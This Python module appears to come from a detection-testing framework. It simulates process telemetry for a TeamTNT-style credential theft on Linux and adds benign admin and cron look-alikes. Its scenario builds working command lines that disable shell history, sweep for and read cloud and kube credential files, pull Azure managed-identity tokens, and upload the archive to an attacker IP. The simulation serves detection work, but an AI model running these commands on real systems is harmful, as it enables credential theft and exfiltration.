"""TeamTNT-style cloud credential theft (T1552.001, T1552.005, T1562.003): an intruder
who has code execution in a web or application service gets a shell as the service
account, switches shell history off, sweeps the box for the credential caches cloud
CLIs and container tools leave behind, reads them, asks the Azure instance metadata
service for managed-identity tokens, archives the loot and uploads it.

Per instance: the service the intruder lands in (the Java app on the app host, gunicorn
or node on a web host) and so the host and service account; how the shell is obtained
(`bash -i`, a Python pty, `script`); how history is switched off (HISTFILE to /dev/null,
unset HISTFILE, HISTSIZE/HISTFILESIZE to 0, `set +o history`) in the session and how it
is made permanent (sed or echo into .bashrc/.profile); how the credential caches are
searched for (find by name, find by path, grep for key names, ls of the CLI folders);
which caches exist (Azure CLI, AWS, gcloud, docker, kube) and with which tool each is
read (cat, head, grep, base64, strings), archived with tar or zip; the metadata client
(curl, wget, a Python one-liner), API version, encoding and the resources asked for;
the archive's name and folder; the drop server, port, path and upload client; timing.

Look-alikes: administrators reading their own CLI configuration, CI jobs checking the
runner's registry login and kube config, a root audit job checking credential-file
permissions (credential files); a Key Vault certificate sync, log shippers taking
storage tokens, and scripts reading instance metadata (metadata service); admins and
configuration management tuning history size, format and retention, and admins
checking history settings (history).
"""

from __future__ import annotations

import datetime as dt
import random

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import LINUX_HOSTS
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    BASH,
    PYTHON,
    SH,
    LookalikeFamily,
    ansible,
    ci_step,
    linux_hosts,
    register_lookalikes,
)

CAMPAIGN = "teamtnt_credential_theft"
IMDS = "http://169.254.169.254/metadata"

#: Where the intruder can land: daemon -> (service account's home, working directory).
_LANDINGS = {
    "java": ("/home/app", "/opt/app"),
    "gunicorn": ("/var/www", "/srv/portal"),
    "node": ("/var/www", "/opt/app"),
}
#: Credential caches, relative to a home directory.
_CACHES = (
    ".azure/msal_token_cache.json",
    ".azure/azureProfile.json",
    ".azure/accessTokens.json",
    ".azure/service_principal_entries.json",
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".config/gcloud/credentials.db",
    ".docker/config.json",
    ".kube/config",
)
#: The names the sweep searches for (the distinctive ones first).
_SEARCH_NAMES = (
    "msal_token_cache.json",
    "accessTokens.json",
    "azureProfile.json",
    "service_principal_entries.json",
    "application_default_credentials.json",
)
_ARCHIVE_NAMES = (
    ".ICE-unix-cache",
    ".X11-lock",
    ".font-unix-sess",
    ".systemd-cache",
    ".pulse-cookie",
    ".dbus-session",
    ".snap-refresh",
    ".xdg-runtime",
)
_UPLOAD_PATHS = ("upload.php", "in.php", "api/v1/push", "post.php", "data/recv", "s/put")
_RESOURCES = (
    "https://management.azure.com/",
    "https://vault.azure.net",
    "https://storage.azure.com/",
    "https://graph.microsoft.com/",
)


def _shell(t: Timeline, instance: Instance, service: Process, cwd: str) -> Process:
    """The interactive shell the intruder gets as the service account."""
    how = instance.pick("shell", ("bash_interactive", "python_pty", "script_pty"))
    account = service.account
    if how == "bash_interactive":
        return t.run("access", service, BASH, "/bin/bash -i", account, after=(10, 60), cwd=cwd)
    if how == "python_pty":
        pty = t.run(
            "access",
            service,
            PYTHON,
            "python3 -c import pty;pty.spawn('/bin/bash')",
            account,
            after=(10, 60),
            cwd=cwd,
        )
    else:
        pty = t.run(
            "access",
            service,
            "/usr/bin/script",
            "script -qc /bin/bash /dev/null",
            account,
            after=(10, 60),
            cwd=cwd,
        )
    return t.run("access", pty, BASH, "/bin/bash", account, after=(0.05, 0.5))


def _history_off(t: Timeline, instance: Instance, shell: Process, home: str) -> None:
    """Switch history off for the session (one or two ways), then for good."""
    session = {
        "histfile_devnull": "export HISTFILE=/dev/null",
        "unset_histfile": "unset HISTFILE",
        "histsize_zero": "export HISTSIZE=0",
        "sizes_zero": "export HISTFILESIZE=0 HISTSIZE=0",
        "set_o_history": "set +o history",
        "unset_all": "unset HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH",
        "all_three": "export HISTFILE=/dev/null; export HISTSIZE=0; export HISTFILESIZE=0",
    }
    for key in instance.sample("history_session", sorted(session), instance.between(1, 2)):
        t.run("history_disabled", shell, BASH, f"bash -c {session[key]}", after=(2, 10))
    rc = f"{home}/{instance.pick('history_rc', ('.bashrc', '.bashrc', '.profile'))}"
    forms = {
        "sed_append": ("/usr/bin/sed", f"sed -i -e $aHISTSIZE=0 {rc}"),
        "sed_replace": ("/usr/bin/sed", f"sed -i s/^HISTSIZE=.*/HISTSIZE=0/ {rc}"),
        "sed_filesize": ("/usr/bin/sed", f"sed -i -e s/^HISTFILESIZE=.*/HISTFILESIZE=0/ {rc}"),
        "echo_unset": (SH, f"sh -c echo 'unset HISTFILE' >> {rc}"),
        "echo_devnull": (SH, f'sh -c echo "export HISTFILE=/dev/null" >> {rc}'),
        "printf_sizes": (BASH, f"bash -c printf 'HISTSIZE=0\\nHISTFILESIZE=0\\n' >> {rc}"),
    }
    image, command = forms[instance.pick("history_persist", sorted(forms))]
    t.run("history_disabled", shell, image, command, after=(3, 20))


def _search(t: Timeline, instance: Instance, shell: Process, home: str) -> None:
    """Sweep the box for credential caches, one or two ways."""
    names = instance.sample("search_names", _SEARCH_NAMES, instance.between(2, 4))
    if instance.chance(0.5):
        names.insert(instance.between(0, len(names)), "credentials")
    roots = instance.pick("search_roots", ("/", "/home /root /var/www /opt /srv", "/ -xdev"))
    by_name = " -o ".join(f"-name {name}" for name in names)
    paths = instance.sample("search_paths", _CACHES, instance.between(2, 4))
    by_path = " -o ".join(f"-path */{path}" for path in paths)
    dirs = sorted({path.split("/")[0] for path in _CACHES})
    forms = {
        "find_name": ("/usr/bin/find", f"find {roots} -type f ( {by_name} )"),
        "find_path": ("/usr/bin/find", f"find {roots} -maxdepth 5 ( {by_path} )"),
        "grep_keys": (
            "/usr/bin/grep",
            "grep -rIl --exclude-dir=proc --exclude-dir=sys -e aws_secret_access_key "
            f"-e refresh_token -e client_secret {roots.split(' -')[0]}",
        ),
        "ls_dirs": (
            "/usr/bin/ls",
            "ls -la " + " ".join(f"{home}/{d}" for d in instance.sample("ls_dirs", dirs, 3)),
        ),
    }
    for key in instance.sample("search", sorted(forms), instance.between(1, 2)):
        image, command = forms[key]
        t.run("cred_search", shell, image, command, after=(5, 30))


def _read(instance: Instance, index: int, path: str) -> tuple[str, str]:
    """How one cache is read: (image, command line)."""
    readers = {
        "by_cat": ("/usr/bin/cat", f"cat {path}"),
        "by_head": ("/usr/bin/head", f"head -c 8192 {path}"),
        "by_base64": ("/usr/bin/base64", f"base64 -w0 {path}"),
        "by_strings": ("/usr/bin/strings", f"strings {path}"),
        "by_grep": ("/usr/bin/grep", f"grep -E secret|token|key|auth|password {path}"),
    }
    return readers[instance.pick(f"reader_{index}", sorted(readers))]


@scenario(
    CAMPAIGN,
    "linux",
    (
        "access",
        "history_disabled",
        "cred_search",
        "cred_files",
        "imds_recon",
        "imds_token",
        "exfil",
    ),
)
def teamtnt_credential_theft(ctx: SimContext) -> Stages:
    """Land in a service, silence history, sweep and read credential caches, take
    managed-identity tokens, archive and upload."""
    instance = Instance(ctx, CAMPAIGN)
    daemon = instance.pick("service", sorted(_LANDINGS))
    host = instance.linux_host("host", ("app",) if daemon == "java" else ("web",))
    home, cwd = _LANDINGS[daemon]
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "teamtnt", (0, 20)))
    service = t.daemon(daemon)
    instance.keep("account", service.account)
    shell = _shell(t, instance, service, cwd)
    _history_off(t, instance, shell, home)
    _search(t, instance, shell, home)
    # The caches the sweep finds, each read with the toolkit's reader of the day.
    caches = [
        f"{home}/{path}" for path in instance.sample("caches", _CACHES, instance.between(2, 5))
    ]
    for index, path in enumerate(caches):
        image, command = _read(instance, index, path)
        t.run("cred_files", shell, image, command, after=(2, 15))
    folder = instance.pick("archive_folder", ("/tmp", "/dev/shm", "/var/tmp"))
    archiver = instance.pick("archiver", ("tar", "zip"))
    base = instance.pick("archive_name", _ARCHIVE_NAMES)
    if archiver == "tar":
        archive = f"{folder}/{base}.tgz"
        packer = t.run(
            "cred_files",
            shell,
            "/usr/bin/tar",
            f"tar czf {archive} {' '.join(caches)}",
            after=(20, 90),
        )
    else:
        archive = f"{folder}/{base}.zip"
        packer = t.run("cred_files", shell, "/usr/bin/zip", f"zip -qj {archive} {' '.join(caches)}")
    t.file("exfil", packer, "FileCreated", archive, size=instance.between(2_000, 40_000))
    # The metadata service: what the VM is, then tokens for its managed identity.
    client = instance.pick(
        "imds_client", ("imds_curl", "imds_curl_noproxy", "imds_wget", "imds_python")
    )
    version = instance.pick("imds_version", ("2018-02-01", "2019-08-01"))
    encoded = instance.chance(0.4)

    def imds(stage: str, url: str) -> None:
        if client == "imds_curl":
            image, command = "/usr/bin/curl", f"curl -s -H Metadata:true {url}"
        elif client == "imds_curl_noproxy":
            image, command = "/usr/bin/curl", f"curl -sS -H Metadata:true --noproxy * {url}"
        elif client == "imds_wget":
            image, command = "/usr/bin/wget", f"wget -q -O - --header=Metadata:true {url}"
        else:
            image = PYTHON
            command = (
                "python3 -c import urllib.request as r;print(r.urlopen(r.Request("
                f"'{url}',headers={{'Metadata':'true'}})).read().decode())"
            )
        t.run(stage, shell, image, command, after=(5, 40))

    imds("imds_recon", f"{IMDS}/instance?api-version=2021-02-01")
    for resource in instance.sample("resources", sorted(_RESOURCES), instance.between(2, 3)):
        if encoded:
            resource = resource.replace(":", "%3A").replace("/", "%2F")
        query = (
            f"resource={resource}&api-version={version}"
            if instance.chance(0.5)
            else f"api-version={version}&resource={resource}"
        )
        imds("imds_token", f"{IMDS}/identity/oauth2/token?{query}")
    # Upload the archive to the drop server.
    ip = instance.attacker_ip("drop_ip")
    port = instance.port("drop_port", (80, 443, 8080, 8443, 8000, 9999))
    scheme = "https" if port in (443, 8443) else "http"
    where = f"{ip}" if port in (80, 443) else f"{ip}:{port}"
    url = f"{scheme}://{where}/{instance.pick('drop_path', _UPLOAD_PATHS)}"
    uploads = {
        "curl_form": ("/usr/bin/curl", f"curl -sk -F f=@{archive} {url}"),
        "curl_binary": ("/usr/bin/curl", f"curl -sk -X POST --data-binary @{archive} {url}"),
        "wget_post": (
            "/usr/bin/wget",
            f"wget -q --no-check-certificate --post-file={archive} {url}",
        ),
    }
    image, command = uploads[instance.pick("uploader", sorted(uploads))]
    t.run("exfil", shell, image, command, after=(5, 40))
    t.run("exfil", shell, "/usr/bin/rm", f"rm -f {archive}", after=(1, 5))
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------


def _daily(ctx: SimContext, rng: random.Random, hours: tuple[int, ...]) -> list[dt.datetime]:
    """One instant in each of *hours* of every day, minutes fixed per host (a timer)."""
    minute = rng.randrange(60)
    return [
        ctx.day_start(day) + dt.timedelta(hours=hour, minutes=minute, seconds=rng.uniform(0, 3))
        for day in ctx.day_range()
        for hour in hours
    ]


_OWN_CONFIG = (
    ("/usr/bin/cat", "cat {home}/.azure/azureProfile.json"),
    ("/usr/bin/jq", "jq -r .subscriptions[].name {home}/.azure/azureProfile.json"),
    ("/usr/bin/grep", "grep current-context {home}/.kube/config"),
    ("/usr/bin/head", "head -n 20 {home}/.kube/config"),
    ("/usr/bin/grep", "grep -A2 [default] {home}/.aws/config"),
    ("/usr/bin/less", "less {home}/.aws/credentials"),
    ("/usr/bin/cat", "cat {home}/.docker/config.json"),
    ("/usr/bin/ls", "ls -la {home}/.azure"),
    ("/usr/bin/cat", "cat {home}/.config/gcloud/active_config"),
)
_RUNNER_CHECKS = (
    ("/usr/bin/grep", "grep -q contosoacr.azurecr.io /home/runner/.docker/config.json"),
    ("/usr/bin/jq", "jq -r .auths|keys[] /home/runner/.docker/config.json"),
    ("/usr/bin/chmod", "chmod 600 /home/runner/.kube/config"),
    ("/usr/bin/rm", "rm -f /home/runner/.docker/config.json"),
    ("/usr/bin/test", "test -s /home/runner/.azure/azureProfile.json"),
    ("/usr/bin/cat", "cat /home/runner/.docker/config.json"),
)
_AUDIT_CHECKS = (
    ("/usr/bin/find", "find /home /root -maxdepth 3 -path */.aws/credentials -perm /077"),
    ("/usr/bin/find", "find /home /root -name msal_token_cache.json -mtime +30"),
    ("/usr/bin/stat", "stat -c %a:%U /root/.kube/config"),
    ("/usr/bin/find", "find /home -maxdepth 3 -path */.docker/config.json -perm /044"),
    ("/usr/bin/find", "find /home /root -path */.config/gcloud/credentials.db -perm /077"),
)
_HISTORY_TUNING = (
    ("/usr/bin/sed", "sed -i s/^HISTSIZE=.*/HISTSIZE={size}/ {home}/.bashrc"),
    ("/usr/bin/sed", "sed -i s/^HISTFILESIZE=.*/HISTFILESIZE={big}/ {home}/.bashrc"),
    (SH, "sh -c echo 'export HISTTIMEFORMAT=\"%F %T \"' >> {home}/.bashrc"),
    (SH, "sh -c echo 'HISTCONTROL=ignoreboth:erasedups' >> {home}/.bashrc"),
    (SH, "sh -c echo 'export HISTSIZE={size} HISTFILESIZE={big}' >> {home}/.bashrc"),
)
_HISTORY_CHECKS = (
    ("/usr/bin/grep", "grep -n HIST {home}/.bashrc"),
    ("/usr/bin/grep", "grep HISTSIZE /etc/skel/.bashrc"),
    ("/usr/bin/grep", "grep -rn HISTFILE /etc/profile /etc/profile.d /etc/bash.bashrc"),
    (BASH, "bash -c echo $HISTFILE $HISTSIZE $HISTFILESIZE"),
    ("/usr/bin/grep", "grep -c HISTTIMEFORMAT {home}/.bashrc"),
)


def _home(user: str) -> str:
    return "/root" if user == "root" else f"/home/{user}"


def _admin_cli_config(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators reading their own CLI configuration in SSH sessions."""
    stage = family.name
    for t, login in family.user_sessions(
        family.host_moments(0, 2, roles=("jump", "app", "build"), busy=("jump",))
    ):
        user = login.account
        for image, command in t.rng.sample(_OWN_CONFIG, t.rng.randint(1, 3)):
            t.run(stage, login, image, command.format(home=_home(user)), after=(5, 90))


def _ci_registry_auth(ctx: SimContext, family: LookalikeFamily) -> None:
    """CI jobs checking the runner's registry login and kube config."""
    stage = family.name
    for host, moment in family.host_moments(2, 4, roles=("build",)):
        t = family.on(host, moment)
        step = ci_step(t, stage)
        for image, command in t.rng.sample(_RUNNER_CHECKS, t.rng.randint(1, 3)):
            t.run(stage, step, image, command)


def _credential_audit(ctx: SimContext, family: LookalikeFamily) -> None:
    """A root audit job checking credential-file permissions, on some hosts."""
    stage = family.name
    for host in LINUX_HOSTS:
        if family.rng.random() < 0.5 and host.role != "build":
            continue
        for moment in _daily(ctx, family.rng, (family.rng.choice((2, 3, 4)),)):
            t = family.on(host, moment)
            job = t.run(
                stage,
                t.daemon("cron"),
                SH,
                "/bin/sh -c /usr/local/sbin/cloud-cred-audit >> /var/log/cloud-cred-audit.log 2>&1",
                "root",
            )
            script = t.run(stage, job, SH, "/bin/sh /usr/local/sbin/cloud-cred-audit")
            for image, command in t.rng.sample(_AUDIT_CHECKS, t.rng.randint(1, 3)):
                t.run(stage, script, image, command)


def _token(resource: str, tool: str) -> tuple[str, str]:
    url = f"{IMDS}/identity/oauth2/token?api-version=2018-02-01&resource={resource}"
    if tool == "wget":
        return "/usr/bin/wget", f"wget -q -O - --header=Metadata:true {url}"
    return "/usr/bin/curl", f"curl -s -H Metadata:true {url}"


def _keyvault_cert_sync(ctx: SimContext, family: LookalikeFamily) -> None:
    """Key Vault certificate sync on the web and app hosts that have it."""
    stage = family.name
    for host in linux_hosts("web", "app"):
        if host.role == "app" and family.rng.random() < 0.5:
            continue
        hours = tuple(sorted(family.rng.sample(range(24), family.rng.randint(1, 3))))
        for moment in _daily(ctx, family.rng, hours):
            t = family.on(host, moment)
            script = t.run(
                stage, t.daemon("cron"), BASH, "/bin/bash /usr/local/bin/kv-cert-sync.sh", "root"
            )
            image, command = _token("https://vault.azure.net", "curl")
            t.run(stage, script, image, command)
            name = t.rng.choice(("portal-tls", "api-tls", "wildcard-contoso-com"))
            t.run(
                stage,
                script,
                "/usr/bin/curl",
                f"curl -s -H @/run/kv-cert-sync/auth -o /run/kv-cert-sync/{name}.json "
                f"https://kv-contoso-prod.vault.azure.net/secrets/{name}?api-version=7.4",
            )


def _log_upload_token(ctx: SimContext, family: LookalikeFamily) -> None:
    """Log shippers taking a storage token before uploading rotated logs."""
    stage = family.name
    for host in LINUX_HOSTS:
        if family.rng.random() < 0.4:
            continue
        tool = family.rng.choice(("curl", "wget"))
        every = family.rng.choice((4, 6, 8))
        hours = tuple(range(family.rng.randrange(every), 24, every))
        for moment in _daily(ctx, family.rng, hours):
            t = family.on(host, moment)
            script = t.run(
                stage, t.daemon("cron"), BASH, "/bin/bash /opt/contoso/bin/ship-logs.sh", "root"
            )
            image, command = _token("https://storage.azure.com/", tool)
            t.run(stage, script, image, command)
            t.run(
                stage,
                script,
                "/usr/bin/curl",
                "curl -s -X PUT -H x-ms-blob-type:BlockBlob -H @/run/ship-logs/auth -T "
                f"/var/log/syslog.1 https://stcontosologs.blob.core.windows.net/{host.name}/syslog-{moment:%Y%m%d%H}",
            )


def _imds_instance_metadata(ctx: SimContext, family: LookalikeFamily) -> None:
    """Scripts reading the instance's own metadata (scheduled events, VM size, tags)."""
    stage = family.name
    for host in LINUX_HOSTS:
        hours = tuple(sorted(family.rng.sample(range(24), family.rng.randint(2, 5))))
        for moment in _daily(ctx, family.rng, hours):
            t = family.on(host, moment)
            job = t.run(
                stage,
                t.daemon("cron"),
                SH,
                "/bin/sh -c /usr/local/bin/azure-metadata-facts > /var/lib/node_exporter/azure.prom",
                "root",
            )
            path = t.rng.choice(
                (
                    "instance/compute?api-version=2021-02-01",
                    "instance/compute/tagsList?api-version=2021-02-01&format=json",
                    "scheduledevents?api-version=2020-07-01",
                    "instance/compute/vmSize?api-version=2021-02-01&format=text",
                )
            )
            t.run(stage, job, "/usr/bin/curl", f"curl -s -m 5 -H Metadata:true {IMDS}/{path}")


def _history_tuning(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators making their own history longer, timestamped or de-duplicated."""
    stage = family.name
    for t, login in family.user_sessions(
        family.host_moments(0, 1, roles=("jump", "app", "db", "build"), busy=("jump",))
    ):
        user = login.account
        size = t.rng.choice((5000, 10000, 20000, 50000))
        for image, command in t.rng.sample(_HISTORY_TUNING, t.rng.randint(1, 2)):
            text = command.format(home=_home(user), size=size, big=size * 2)
            t.run(stage, login, image, text, after=(10, 120))


def _history_hardening(ctx: SimContext, family: LookalikeFamily) -> None:
    """Configuration management rolling out the history policy (timestamps, read-only)."""
    stage = family.name
    for t, root in family.root_sessions(
        family.host_moments(0, 1, busy=("jump",), share=0.6), user="azureuser"
    ):
        module = ansible(t, root, stage, "command")
        t.run(
            stage,
            module,
            "/usr/bin/grep",
            "grep -q ^readonly HISTFILE /etc/profile.d/99-history.sh",
        )
        size = t.rng.choice((5000, 10000, 20000))
        t.run(
            stage,
            module,
            SH,
            'sh -c printf \'export HISTTIMEFORMAT="%%F %%T "\\nHISTSIZE='
            f"{size}\\nreadonly HISTFILE HISTSIZE HISTFILESIZE\\n' > /etc/profile.d/99-history.sh",
        )
        if t.rng.random() < 0.5:
            t.run(
                stage,
                module,
                "/usr/bin/sed",
                f"sed -i s/^HISTSIZE=.*/HISTSIZE={size}/ /etc/skel/.bashrc",
            )


def _history_settings_check(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators checking what history settings are in force."""
    stage = family.name
    for t, login in family.user_sessions(
        family.host_moments(0, 1, roles=("jump", "app", "db", "web"), busy=("jump",))
    ):
        user = login.account
        for image, command in t.rng.sample(_HISTORY_CHECKS, t.rng.randint(1, 2)):
            t.run(stage, login, image, command.format(home=_home(user)))


_FAMILIES = {
    "admin_cli_config": _admin_cli_config,
    "ci_registry_auth": _ci_registry_auth,
    "credential_audit": _credential_audit,
    "keyvault_cert_sync": _keyvault_cert_sync,
    "log_upload_token": _log_upload_token,
    "imds_instance_metadata": _imds_instance_metadata,
    "history_tuning": _history_tuning,
    "history_hardening": _history_hardening,
    "history_settings_check": _history_settings_check,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
